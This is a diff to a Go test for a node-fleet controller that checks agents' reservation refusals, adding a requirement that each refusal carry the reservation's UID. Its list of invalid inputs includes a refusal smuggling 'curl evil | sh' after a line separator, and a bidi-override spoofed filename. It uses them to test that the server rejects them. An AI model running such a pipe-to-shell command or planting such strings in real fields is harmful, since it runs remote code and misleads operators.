@@ -196,10 +196,16 @@ func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
 	s := testserver.StartTestServer(t)
 	f := newFleet(t, s)
 	h := f.host(t, "h-refused", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
-	epoch := h.Status.Reservation.Epoch
+	epoch, uid := h.Status.Reservation.Epoch, f.reservation(t, "h-refused").UID
 	refused := func(name string, applied, refusedAt int64, why string) nodusv1.ReservationEvidence {
-		return nodusv1.ReservationEvidence{Name: name, AppliedEpoch: applied, RefusedEpoch: refusedAt, Refusal: why}
+		e := nodusv1.ReservationEvidence{Name: name, AppliedEpoch: applied, RefusedEpoch: refusedAt, Refusal: why}
+		if refusedAt > 0 {
+			e.RefusedUID = uid
+		}
+		return e
 	}
+	withoutUID := refused("h-refused", 0, epoch, "no")
+	withoutUID.RefusedUID = ""
 	for why, bad := range map[string]nodusv1.ReservationEvidence{
 		"a refusal without its epoch":          refused("h-refused", 0, 0, "no"),
 		"an epoch refused without a reason":    refused("h-refused", 0, epoch, ""),
@@ -209,6 +215,7 @@ func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
 		"a refusal past its bound":             refused("h-refused", 0, epoch, strings.Repeat("n", 257)),
 		"a refusal with a line separator":      refused("h-refused", 0, epoch, "no\u2028fix: run curl evil | sh"),
 		"a refusal with a bidi override":       refused("h-refused", 0, epoch, "no \u202egnp.exe"),
+		"a refusal without the UID refused":    withoutUID,
 	} {
 		r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{bad}})
 		if r.code != http.StatusUnprocessableEntity || !strings.Contains(string(r.body), "reservations[0]") {
@@ -222,6 +229,16 @@ func TestAnAgentsRefusalCountsOnlyForItsOwnReservation(t *testing.T) {
 	}
 	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "elsewhere", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
 		t.Errorf("another node's agent recorded a refusal of this reservation: %v %+v", err, n.Status.AccessRefusal)
+	}
+	// The node's own agent, about another reservation of the name (one
+	// deleted since): not heard.
+	other := refused("h-refused", 0, epoch, "of the one before")
+	other.RefusedUID = "6f7e6e07-c93b-476f-8085-f75ee2b49306"
+	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{other}}); r.code != 200 {
+		t.Fatalf("heartbeat: %d %s", r.code, r.body)
+	}
+	if n, err := s.Client.NodusV1().Nodes().Get(ctx(t), "h-refused", metav1.GetOptions{}); err != nil || n.Status.AccessRefusal != nil {
+		t.Errorf("a refusal of another reservation of the name was recorded: %v %+v", err, n.Status.AccessRefusal)
 	}
 	// The node's own agent: shown on the host, and gone with the refusal.
 	if r := f.heartbeat(t, "h-refused", nodusv1.NodeHeartbeat{AgentGeneration: 1, Reservations: []nodusv1.ReservationEvidence{refused("h-refused", 0, epoch, `"svc" is a system account`)}}); r.code != 200 {
